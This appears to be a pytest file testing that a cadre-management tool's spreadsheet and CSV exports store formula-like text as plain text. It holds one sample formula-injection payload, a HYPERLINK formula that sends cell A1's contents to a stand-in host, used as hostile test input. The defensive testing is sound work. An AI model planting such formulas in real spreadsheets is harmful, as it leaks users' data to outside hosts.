"""Spreadsheets the tool writes: text that Excel would run as a formula is stored as plain text."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_cli import params_file  # noqa: F401  (fixture)
from test_indicators import CADRES, EVALUATIONS, MOVEMENTS, PLANNING, TRAINING, UNIT_REPORTS

from cadre_lib.cli import main
from cadre_lib.core.spreadsheet import csv_safe, neutralise, write_xlsx

HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1;"Hoàng Văn Em")'


def test_neutralise_each_dangerous_first_character() -> None:
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
        assert neutralise(text) == "'" + text
    for value in ["An", "1-2", " =x", "", 3, -3.5, None]:
        assert neutralise(value) == value


def test_csv_safe_keeps_numbers_and_headers_checked() -> None:
    frame = pd.DataFrame({"=h": ["=x", "ok", None], "n": [-1, 2, 3]})
    out = csv_safe(frame)
    assert list(out.columns) == ["'=h", "n"]
    assert out.iloc[0, 0] == "'=x" and out.iloc[1, 0] == "ok" and pd.isna(out.iloc[2, 0])
    assert list(out["n"]) == [-1, 2, 3]
    assert frame.iloc[0, 0] == "=x"  # the input is not modified


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_write_xlsx_stores_text_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(path, {"people": pd.DataFrame({"name": [HOSTILE, "+84 912", "An"], "n": [1, -2, 3]})})
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    ws = openpyxl.load_workbook(path)["people"]
    assert [c.value for c in ws["A"]] == ["name", HOSTILE, "+84 912", "An"]
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert [c.value for c in ws["B"]] == ["n", 1, -2, 3]


@pytest.fixture
def hostile_register(make_register):
    cadres = [list(r) for r in CADRES]
    cadres[4][1] = HOSTILE  # c5: the one still to train (see test_cli.test_explain_missing_csv)
    return make_register(cadres=cadres, planning=PLANNING, training=TRAINING, movements=MOVEMENTS,
                         evaluations=EVALUATIONS, unit_reports=UNIT_REPORTS)


@pytest.mark.parametrize("ext", ["xlsx", "csv"])
def test_explain_export_keeps_the_name_as_text(hostile_register, params_file, tmp_path, ext):  # noqa: F811
    out = tmp_path / f"todo.{ext}"
    assert main(["explain", "--data", str(hostile_register), "--params", str(params_file), "--indicator",
                 "leadership_training_coverage", "--unit", "ALL", "--missing", "--out", str(out)]) == 0
    if ext == "xlsx":
        assert "<f>" not in _sheet_xml(out)
        ws = openpyxl.load_workbook(out).active
        cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE]
        assert len(cells) == 1 and cells[0].data_type == "s"
    else:
        with out.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        assert ["'" + HOSTILE] == [v for r in rows for v in r if HOSTILE in v]


def test_indicators_xlsx_has_no_formula(hostile_register, params_file, tmp_path):  # noqa: F811
    out = tmp_path / "ind.xlsx"
    assert main(["indicators", "--data", str(hostile_register), "--params", str(params_file), "--out", str(out)]) == 0
    assert "<f>" not in _sheet_xml(out)
    frame = pd.read_excel(out, engine="openpyxl")
    assert len(frame) == 18 * 6 * 4 and frame["numerator"].dtype.kind == "i"
